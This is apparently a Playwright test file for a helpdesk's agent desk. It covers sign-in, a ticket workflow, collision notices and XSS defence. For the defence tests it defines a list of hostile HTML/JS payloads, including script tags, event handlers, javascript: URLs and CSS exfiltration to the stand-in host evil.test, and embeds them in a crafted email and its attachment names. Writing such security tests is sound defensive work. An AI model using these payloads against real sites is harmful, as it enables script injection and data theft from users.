"""The desk in a real browser (Debian's chromium driven by Playwright, tests/browser.py):
an agent signs in with the link mailed to them and out again; hostile mail opened on
every desk page runs no script and loads nothing from elsewhere; and the shipped
config, as `./scripts/run` starts it, brings the desk up where its log says.

Screenshots go to tests/artifacts/ for review."""

from __future__ import annotations

import re
from collections.abc import Callable
from email.headerregistry import Address
from email.message import EmailMessage
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

from helpdesk.config import settings as config
from tests.browser import RUN, Watch, screenshot, sign_in_in_browser
from tests.helpers import (
    REPO,
    engine_for,
    free_port,
    outbox_rows,
    run_cli,
    wait_ticket,
    wait_until,
)
from tests.web_helpers import Desk, cli_link

if TYPE_CHECKING:
    from playwright.sync_api import Page, Response

sqlite_only = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)

# -- hostile mail --------------------------------------------------------------------------

# Each would run RUN (tests/browser.py: sets a marker, opens a dialog), load something
# from elsewhere (evil.test: CSS exfiltration, a tracking pixel), or both, if a page
# put it into HTML unescaped.
HOSTILE = [
    f"<script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg onload={RUN}><script>{RUN}</script></svg>",
    f'<a href="javascript:{RUN}">open me</a>',
    f'<iframe src="javascript:{RUN}"></iframe><form action="javascript:{RUN}"><button>go',
    "</title></textarea></style><style>@import url(http://evil.test/a.css);"
    " input[value^=a]{background:url(http://evil.test/leak?a)}</style>",
    '<link rel="stylesheet" href="http://evil.test/b.css">'
    '<div style="background:url(http://evil.test/inline)">styled</div>',
    '<img src="http://evil.test/pixel.png" alt="remote">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
]
PAYLOAD = " ".join(HOSTILE)
# a file name: no slash, so that no parser takes a part of it for a directory
FILE_NAME = f"<img src=x onerror={RUN}><svg onload={RUN}>.html"
SVG = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script>'
       '<image href="http://evil.test/svg.png"/></svg>')


def hostile_mail() -> EmailMessage:
    """A mail with a payload in subject, display name, text and HTML body and attachment
    names, and attachments that would run script if shown inline (HTML, SVG)."""
    msg = EmailMessage()
    msg["From"] = Address(display_name=f"<script>{RUN}</script><img src=x onerror={RUN}>",
                          addr_spec="carol@customer.test")
    msg["To"] = "support@example.test"
    msg["Subject"] = f"Printer broken {PAYLOAD}"
    msg["Message-ID"] = "<hostile-1@customer.test>"
    msg.set_content(f"The printer is broken.\n{PAYLOAD}\n")
    msg.add_alternative(f"<html><head><title>{PAYLOAD}</title></head>"
                        f"<body><p>The printer is broken.</p>{PAYLOAD}</body></html>",
                        subtype="html")
    msg.add_attachment(f"<html><body>{PAYLOAD}</body></html>".encode(), maintype="text",
                       subtype="html", filename=FILE_NAME)
    msg.add_attachment(SVG.encode(), maintype="image", subtype="svg+xml",
                       filename=f"{FILE_NAME}.svg")
    return msg


# -- the pages -----------------------------------------------------------------------------

# Every desk page an agent can open, each opened with the hostile mail stored as ticket
# {ticket} (the number of HD-N). A page added to the desk is one line here.
DESK_PAGES = [
    "/desk/",
    "/desk/queue/unassigned",
    "/desk/queue/all?sort=activity",
    "/desk/ticket/{ticket}",
    "/desk/ticket/{ticket}?formatted={message}",  # the mail's HTML, framed
    "/desk/ticket/{ticket}?formatted={message}&images=1",
    "/desk/ticket/{ticket}/actions",
    "/desk/ticket/{ticket}/presence",  # the reply box opened without script
    "/desk/search?q=printer",
    "/desk/search?q=" + quote(PAYLOAD),  # the query, echoed into the form
    "/desk/customer/carol@customer.test",
    "/desk/dashboard",
    # pages that show what is in their address
    "/desk/login?next=" + quote(PAYLOAD),
    "/desk/login/confirm?t=" + quote(PAYLOAD),
    "/desk/" + quote(PAYLOAD.replace("/", "")),  # the 404 page
]

# the pages above that show the hostile mail (its subject, at least) to a lead
SHOW_THE_MAIL = ("/desk/queue/", "/desk/ticket/", "/desk/search?q=printer", "/desk/customer/")

UNSAFE_SOURCES = ("'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:")


def policy(response: Response) -> dict[str, list[str]]:
    """The page's Content-Security-Policy, as directive -> sources."""
    header = response.headers.get("content-security-policy", "")
    assert header, f"{response.url}: no Content-Security-Policy"
    return {d.split()[0]: d.split()[1:] for d in header.split(";") if d.strip()}


def header_problems(response: Response) -> list[str]:
    """What is missing from a page's security headers."""
    csp = policy(response)
    found = []
    for directive in ("script-src", "object-src", "style-src"):
        sources = csp.get(directive, csp.get("default-src"))
        if sources is None or set(sources) & set(UNSAFE_SOURCES):
            found.append(f"{directive} allows {sources}")
    if csp.get("frame-ancestors") not in (["'none'"], ["'self'"]):
        found.append(f"frame-ancestors is {csp.get('frame-ancestors')}")
    if csp.get("base-uri") not in (["'none'"], ["'self'"]):
        found.append(f"base-uri is {csp.get('base-uri')}")
    if response.headers.get("x-content-type-options") != "nosniff":
        found.append("no X-Content-Type-Options: nosniff")
    return found


def attachment_problems(page: Page) -> list[str]:
    """Attachment links on the page (a path with /attachments/, or a download link)
    must answer as a download with nosniff, never as a page of their own."""
    found = []
    hrefs = page.eval_on_selector_all(
        "a[href*='/attachments/'], a[download]", "links => links.map(a => a.href)")
    for href in sorted(set(hrefs)):
        answer = page.request.get(href)
        disposition = answer.headers.get("content-disposition", "")
        if answer.ok and not disposition.startswith("attachment"):
            found.append(f"{href}: Content-Disposition {disposition!r}")
        if answer.ok and answer.headers.get("x-content-type-options") != "nosniff":
            found.append(f"{href}: no nosniff")
    return found


def first_message_id(desk: Desk, number: int) -> int:
    """The id of the first message on ticket `number` (for the formatted-HTML view)."""
    from helpdesk.store import db, queries

    with db.snapshot_scope(engine_for(desk.settings)) as session:
        return int(queries.messages(session, number)[0].id or 0)


# -- the harness tells script that ran from script that did not ----------------------------

def test_the_harness_sees_injected_script_run_and_blocked(page: Page) -> None:
    """Without this, a harness that noticed nothing would pass every page."""
    served: dict[str, str] = {}

    def serve(route: Any) -> None:
        if route.request.url.startswith("http://desk.test/"):
            route.fulfill(body=f"<html><head><title>ok</title></head><body>{PAYLOAD}"
                          "</body></html>", content_type="text/html",
                          headers={"Content-Security-Policy": served.get("csp", "")}
                          if served.get("csp") else {})
        else:
            route.abort()

    page.route("**/*", serve)
    watch = Watch(page, "http://desk.test/")
    page.goto("http://desk.test/open")
    page.wait_for_load_state("load")
    seen = "\n".join(watch.problems())
    assert "alert dialog: 'PWNED'" in seen, seen
    assert "document.title set" in seen and "window.__pwned set" in seen, seen
    assert "inline handler onerror on <img>" in seen, seen
    assert "href=javascript:" in seen, seen
    assert "request left the desk: GET http://evil.test/" in seen, seen

    # the page's policy stops the script, which the harness still reports: the markup
    # must not have reached the page at all
    served["csp"] = "default-src 'none'"
    page.goto("http://desk.test/with-policy")
    page.wait_for_load_state("load")
    seen = "\n".join(watch.problems())
    assert "dialog" not in seen and "document.title set" not in seen, seen
    assert "CSP report" in seen and "script" in seen, seen

    # and an escaped payload is clean
    page.set_content(f"<p>{PAYLOAD.replace('&', '&amp;').replace('<', '&lt;')}</p>")
    assert watch.problems() == []


# -- signing in and out --------------------------------------------------------------------

@sqlite_only
def test_an_agent_signs_in_with_the_mailed_link_and_out_again(
        page: Page, make_desk: Callable[..., Desk]) -> None:
    desk = make_desk()
    page.goto(f"{desk.url}/desk/")
    assert page.url.startswith(f"{desk.url}/desk/login?next=")  # not signed in yet
    screenshot(page, "signin-form")

    sign_in_in_browser(page, desk, "lisa@staff.test")
    # the desk opens on the agent's own tickets
    assert page.get_by_role("heading", name="My tickets").is_visible()
    assert "(lisa, lead)" in page.inner_text("main")
    screenshot(page, "desk-signed-in")

    page.get_by_role("button", name="Sign out", exact=True).click()
    page.wait_for_url(f"{desk.url}/desk/login")
    page.goto(f"{desk.url}/desk/")
    assert page.url.startswith(f"{desk.url}/desk/login?next=")  # the session has ended
    # the link was used up by the sign-in: it signs no one in a second time
    link = desk.link_mailed_to("lisa@staff.test")
    assert page.goto(link).status == 410  # type: ignore[union-attr]


# -- the scenario: one ticket from the customer's mail to its resolution -----------

WORD = "zeppelinfield"  # a word only this mail has, to search for


def customer_mail(subject: str, text: str, message_id: str) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = "Carol Customer <carol@customer.test>"
    msg["To"] = "support@example.test"
    msg["Subject"] = subject
    msg["Message-ID"] = message_id
    msg.set_content(text)
    return msg


def mails_with(desk: Desk, address: str, filename: str) -> list[EmailMessage]:
    """Mails gone out to `address` (the outgoing maildir) carrying an attachment
    named `filename`."""
    return [m for m in desk.mails_to(address, subject="")
            if any(part.get_filename() == filename for part in m.iter_attachments())]


@sqlite_only
def test_an_agent_works_a_new_ticket_from_mail_to_resolution(
        page: Page, make_desk: Callable[..., Desk]) -> None:
    """The scenario of issue #15: a customer's mail arrives by SMTP; alice signs in with
    the link from the outgoing maildir, finds the ticket in "unassigned", assigns it to
    herself, replies with an attachment (the customer's mail goes out with it), adds a
    note, resolves it and finds it again by a word of the mail. On the way, the page's
    own script runs under the desk's CSP (nothing blocked) and says when the ticket
    changed under her."""
    desk = make_desk()
    desk.deliver(customer_mail("The boiler in room 4 is leaking",
                               f"Water all over the {WORD} floor since this morning.\n",
                               "<boiler-1@customer.test>"))
    number = int(wait_ticket(desk.settings)["id"].removeprefix("HD-"))
    ref = f"HD-{number}"

    sign_in_in_browser(page, desk, "alice@staff.test")
    watch = Watch(page, desk.url)
    page.get_by_role("navigation", name="Views").get_by_role(
        "link", name="Unassigned").click()
    page.wait_for_url(f"{desk.url}/desk/queue/unassigned")
    row = page.get_by_role("row").filter(has_text="The boiler in room 4 is leaking")
    assert row.get_by_role("link", name=ref).is_visible()
    screenshot(page, "scenario-queue-unassigned")
    row.get_by_role("link", name=ref).click()
    page.wait_for_url(f"{desk.url}/desk/ticket/{number}")
    assert page.get_by_role("heading", name="Act on this ticket").is_visible()

    # assign it to herself with the field controls
    page.get_by_label("Assignee").select_option("alice")
    page.get_by_role("button", name="Save fields").click()
    page.wait_for_url(f"{desk.url}/desk/ticket/{number}")
    assert "Assignee\nalice\n" in page.locator("dl.fields").inner_text()

    # reply with an attachment: the customer's mail goes out with it
    page.get_by_label("Reply to the customer").fill("We are on our way with a bucket.")
    page.get_by_label("Attachments").first.set_input_files(
        {"name": "work-order.pdf", "mimeType": "application/pdf",
         "buffer": b"%PDF-1.4 work order 4711\n"})
    page.get_by_role("button", name="Send", exact=True).click()
    page.wait_for_url(f"{desk.url}/desk/ticket/{number}")
    sent = wait_until(lambda: mails_with(desk, "carol@customer.test", "work-order.pdf"),
                      timeout=15, what="the reply with its attachment at the customer")
    assert "We are on our way with a bucket." in sent[0].get_body(("plain",)).get_content()
    assert f"[{ref}]" in str(sent[0]["Subject"])
    assert page.get_by_role("link", name="work-order.pdf").is_visible()

    # an internal note: on the ticket, marked for agents only, never mailed
    page.get_by_label("Internal note").fill("Bucket is in the van.")
    page.get_by_role("button", name="Add note").click()
    page.wait_for_url(f"{desk.url}/desk/ticket/{number}")
    note = page.locator("article.message.note").filter(has_text="Bucket is in the van.")
    assert note.get_by_text("agents only").is_visible()
    assert not [m for m in desk.mails_to("carol@customer.test", subject="")
                if "Bucket is in the van." in m.as_string()]

    # the customer writes again while the page is open: the page's script notices
    page.get_by_text("Water all over").first.wait_for()
    changed = page.locator("[data-changed]")
    assert changed.is_hidden()
    reply_to = sent[0]["Message-ID"]
    follow_up = customer_mail(f"Re: {sent[0]['Subject']}", "It is getting worse.\n",
                              "<boiler-2@customer.test>")
    follow_up["In-Reply-To"] = reply_to
    desk.deliver(follow_up)
    changed.wait_for(state="visible", timeout=25_000)
    page.reload()

    # resolve it
    page.get_by_label("Status").select_option("resolved")
    page.get_by_role("button", name="Save fields").click()
    page.wait_for_url(f"{desk.url}/desk/ticket/{number}")
    assert "Status\nresolved\n" in page.locator("dl.fields").inner_text()
    assert wait_ticket(desk.settings, number, lambda t: t["status"] == "resolved")
    screenshot(page, "scenario-ticket")

    # the queue link on the ticket leads back to its queue
    assert page.locator("dl.fields").get_by_role("link", name="support").is_visible()

    # search for a word from the body
    page.get_by_label("Search tickets").fill(WORD)
    page.get_by_role("button", name="Search", exact=True).click()
    page.wait_for_url(re.compile(r"/desk/search\?q="))
    hit = page.get_by_role("link", name=re.compile(f"^{ref}: The boiler"))
    assert hit.is_visible()
    assert page.locator("mark").filter(has_text=WORD).count() >= 1
    screenshot(page, "scenario-search")
    hit.click()
    page.wait_for_url(re.compile(f"/desk/ticket/{number}"))

    # nothing the desk's own pages did was blocked or ran where it should not
    assert watch.problems() == []


@sqlite_only
def test_two_agents_on_one_ticket_page_see_each_other_and_a_stale_form_is_refused(
        page: Page, make_desk: Callable[..., Desk]) -> None:
    """The collision notice on the real ticket page: lisa starts typing a reply, and
    alice's page (its script polling) says so; alice's fields form, drawn before lisa's
    reply went out, is refused with the fresh state, not applied over it."""
    from playwright.sync_api import expect

    desk = make_desk()
    desk.deliver(customer_mail("Two agents, one ticket", "Who answers me?\n",
                               "<two-1@customer.test>"))
    number = int(wait_ticket(desk.settings)["id"].removeprefix("HD-"))
    ticket_url = f"{desk.url}/desk/ticket/{number}"
    assert page.context.browser is not None
    lisa_context = page.context.browser.new_context()
    try:
        lisa = lisa_context.new_page()
        sign_in_in_browser(page, desk, "alice@staff.test")
        sign_in_in_browser(lisa, desk, "lisa@staff.test")
        page.goto(ticket_url)
        lisa.goto(ticket_url)
        notice = page.locator("[data-replying]")
        assert notice.is_hidden()

        lisa.get_by_label("Reply to the customer").fill("On it.")  # focus: a heartbeat
        notice.wait_for(state="visible", timeout=25_000)
        assert notice.inner_text() == "lisa is replying."
        screenshot(page, "collision-notice")

        # lisa's page is on the ticket's address already: wait for her POST's answer
        # (the redirect back), not for an address it has, or alice may save first
        with lisa.expect_navigation(url=ticket_url):
            lisa.get_by_role("button", name="Send", exact=True).click()
        page.get_by_label("Priority").select_option("high")
        with page.expect_navigation():
            page.get_by_role("button", name="Save fields").click()
        expect(page.get_by_role("heading", name=re.compile("changed while you"))).to_be_visible()
        assert wait_ticket(desk.settings, number)["priority"] == "normal"
    finally:
        lisa_context.close()


# -- hostile mail on every page ------------------------------------------------------------

@sqlite_only
def test_hostile_mail_runs_no_script_on_any_desk_page(
        page: Page, make_desk: Callable[..., Desk]) -> None:
    desk = make_desk()
    desk.deliver(hostile_mail())
    ticket = wait_ticket(desk.settings)
    number = int(ticket["id"].removeprefix("HD-"))
    message = first_message_id(desk, number)
    sign_in_in_browser(page, desk, "lisa@staff.test")  # a lead: every queue

    watch = Watch(page, desk.url)
    failures: dict[str, list[str]] = {}
    for n, path in enumerate(DESK_PAGES):
        address = desk.url + path.format(ticket=number, message=message)
        response = page.goto(address)
        assert response is not None
        page.wait_for_load_state("load")
        found = watch.problems() + header_problems(response) + attachment_problems(page)
        if response.status >= 500:
            found.append(f"status {response.status}")
        if path.startswith(SHOW_THE_MAIL):  # a page that shows it must be checked showing it
            if response.status != 200:
                found.append(f"status {response.status}, not the page")
            elif "Printer broken" not in page.inner_text("main"):
                found.append("the hostile mail is not on the page")
        if found:
            failures[path[:60]] = found
        screenshot(page, f"hostile-{n}-{re.sub(r'[^a-z]+', '-', path[:30])}")
    assert failures == {}, "\n".join(f"{p}:\n  " + "\n  ".join(f)
                                     for p, f in failures.items())


# -- ./scripts/run: the shipped config brings the desk up -----------------------------------

def shipped_config(tmp_path: Path) -> tuple[config.Settings, dict[str, int]]:
    """config/helpdesk.toml as ./scripts/run uses it, with free ports and its data in
    tmp_path (several test runs share the machine), agents.toml and rules.toml beside."""
    ports = {"smtp": free_port(), "public": free_port(), "ops": free_port()}
    text = (REPO / "config" / "helpdesk.toml").read_text()
    for old, new in ((r'^port = 2525\b', f"port = {ports['smtp']}"),
                     (r'^public = "127\.0\.0\.1:8025"', f'public = "127.0.0.1:{ports["public"]}"'),
                     (r'^listen = "127\.0\.0\.1:8026"', f'listen = "127.0.0.1:{ports["ops"]}"'),
                     (r'^data_dir = "data"', f'data_dir = "{tmp_path / "data"}"')):
        text, count = re.subn(old, new, text, flags=re.M)
        assert count == 1, old
    site = tmp_path / "config"
    site.mkdir()
    (site / "helpdesk.toml").write_text(text)
    for name in ("agents.toml", "rules.toml"):
        (site / name).write_text((REPO / "config" / name).read_text())
    return config.load(site / "helpdesk.toml"), ports


def test_the_shipped_config_serves_the_desk_where_the_log_says(
        page: Page, tmp_path: Path, daemon_procs: Callable[..., Any]) -> None:
    settings, ports = shipped_config(tmp_path)
    assert settings.web.enabled
    daemon = daemon_procs(settings).start()
    desk = f"http://127.0.0.1:{ports['public']}/desk/"
    said = wait_until(lambda: re.search(r"agent desk at (\S+) \((.+)\)", daemon.log()),
                      timeout=15, what="the desk's address in the log")
    assert said[1] == desk and "helpdesk web login-link NAME" in said[2], daemon.log()

    made = run_cli(settings, "web", "login-link", "alice")
    assert made.returncode == 0, made.stderr.decode()
    link = made.stdout.decode().splitlines()[0]
    assert link.startswith(f"{desk}login/confirm?t="), link
    page.goto(link)
    page.get_by_role("button", name=re.compile("^Sign in to ")).click()
    page.wait_for_url(desk)
    assert "(alice, agent)" in page.inner_text("main")
    page.goto(f"http://127.0.0.1:{ports['public']}/")  # the bare address opens the desk
    page.wait_for_url(desk)
    assert daemon.terminate() == 0, daemon.log()


def test_hostile_mail_runs_no_script_on_the_admins_mail_page(
        page: Page, make_desk: Callable[..., Desk], relay: Any) -> None:
    """The mail page shows what strangers wrote: a quarantined mail's envelope sender and
    a refused acknowledgement's subject (the customer's)."""
    from tests.agent_desk import relay_overrides
    from tests.agents_toml import agent, agents_toml

    desk = make_desk(agents=agents_toml(agent("ada", "support", role="admin")),
                     **relay_overrides(relay))
    done = run_cli(desk.settings, "ingest", "--sender", f"<script>{RUN}</script>@x.test",
                   stdin=b"\x00 not a mail at all")
    assert done.returncode == 0, done.stderr
    relay.refuse_next("550 5.1.1 mailbox unavailable")
    desk.deliver(hostile_mail())
    wait_until(lambda: any(r.status == "dead" for r in outbox_rows(desk.settings)),
               timeout=20, what="the acknowledgement given up")
    # signed in by `helpdesk web login-link` (mail goes to the relay here, not a maildir)
    page.goto(cli_link(desk, "ada"))
    page.get_by_role("button", name=re.compile("^Sign in to ")).click()
    page.wait_for_url(f"{desk.url}/desk/")
    watch = Watch(page, desk.url)
    response = page.goto(desk.url + "/desk/mail")
    assert response is not None and response.status == 200
    page.wait_for_load_state("load")
    assert watch.problems() + header_problems(response) == []
    main = page.inner_text("main")
    assert f"<script>{RUN}</script>@x.test" in main and "Printer broken" in main
    screenshot(page, "mail-page")
    response = page.goto(desk.url + "/desk/ticket/1")  # the agent's side of the same
    assert response is not None and response.status == 200
    notice = page.locator("section.undelivered").inner_text()
    assert "the acknowledgement" in notice and "550 5.1.1 mailbox unavailable" in notice
    assert watch.problems() == []
    screenshot(page, "ticket-undelivered")
    page.goto(desk.url + "/desk/mail")
    page.get_by_role("button", name="Send all given-up mail again").click()
    page.wait_for_load_state("load")
    assert "Queued again: the outbox sends it within a second." in page.inner_text("main")
    assert watch.problems() == []
    screenshot(page, "mail-page-sent-again")
